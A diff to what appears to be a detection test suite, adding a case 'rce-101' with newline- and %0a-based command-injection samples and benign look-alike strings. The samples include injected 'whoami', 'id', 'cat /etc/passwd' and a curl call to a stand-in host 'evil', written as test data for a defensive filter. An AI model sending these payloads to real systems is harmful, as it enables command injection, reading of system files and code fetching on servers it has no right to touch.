@@ -387,6 +387,26 @@ CASES: dict[str, tuple[list[tuple[str, str]], list[tuple[str, str]]]] = {
         ],
         [("q", "cats; dogs"), ("q", "price; $5 each"), ("q", "data://text/plain;base64,SSBsb3ZlIFBIUAo=")],
     ),
+    "rce-101": (
+        [
+            ("q", "report\nenv;"),
+            ("q", "x\nwhoami"),
+            ("rawq", "x=%0aid"),
+            ("rawq", "x=%0a%20cat%20/etc/passwd"),
+            ("json", "127.0.0.1\r\nls -la"),
+            ("q", "a\nsleep 5"),
+            ("q", "a\n/usr/bin/curl http://evil/x"),
+        ],
+        [
+            ("q", "Steps:\nfind the file\nid like to know"),
+            ("q", "My cat\ncat food is great"),
+            ("q", "columns:\nid\nname"),
+            ("q", "env vars\nenv is set"),
+            ("q", "I need more\nsleep 8 hours"),
+            ("q", "Which one?\nWhoami is a command"),
+            ("json", "def f():\n    id = 5\nenv: prod"),
+        ],
+    ),
     "rce-151": (
         [("q", "'wh'oami"), ("q", '"w"get localhost'), ("q", "x; c'a't /etc/passwd"), ("q", "'i'p a")],
         [("q", "O'Keefe's cat"), ("q", 'the "ip" field'), ("q", 'That\'s two "O"s in goose'), ("q", "don't ping me")],
